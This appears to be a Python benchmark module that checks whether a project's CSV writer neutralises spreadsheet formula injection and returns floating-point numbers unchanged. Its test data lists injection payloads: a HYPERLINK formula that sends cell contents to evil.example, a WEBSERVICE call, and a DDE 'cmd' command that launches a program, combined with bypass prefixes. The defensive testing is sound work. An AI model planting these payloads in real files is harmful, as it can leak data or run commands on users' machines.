"""CSV files: text that a spreadsheet would compute, and numbers that must come back exactly."""

from __future__ import annotations

import csv
import io
import math
import random
from itertools import product

from benchmarks.report import RowResult
from muscope.backend.spreadsheet import csv_lines

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    'HYPERLINK("http://evil.example?"&A1,"x")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example")',
    "1+1",
)
NUM_NUMBERS = 2000


def spreadsheets() -> RowResult:
    """Every beginning × every formula, as a header and as a cell; random doubles of every size."""
    texts = [begin + formula for begin, formula in product(BEGINNINGS, FORMULAS)]
    computed = [text for text in texts for cell in _read([text], [[text]]) if cell.startswith(BEGINNINGS)]
    numbers = _numbers()
    back = [float(cell) for cell in _read(["x"], [[number] for number in numbers])[1:]]
    changed = sum(1 for old, new in zip(numbers, back, strict=True) if old != new)
    notes = [f"{len(texts)} texts as header and cell, {len(numbers)} numbers.", *map(repr, computed[:10])]
    value = f"{len(computed)}_computed,{changed}_changed"
    return RowResult(value, "0_computed,0_changed", not computed and changed == 0, notes=notes)


def _numbers() -> list[float]:
    """Return doubles of every size and both signs, the same in each run."""
    chance = random.Random(11)
    return [math.ldexp(chance.uniform(-1, 1), chance.randint(-1070, 1020)) for _ in range(NUM_NUMBERS)]


def _read(header: list[str], rows: list[list[str | int | float | None]]) -> list[str]:
    """Write a table, and return its cells as another reader of CSV sees them."""
    text = "\r\n".join(csv_lines(header, rows)).removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), strict=True) for cell in row]
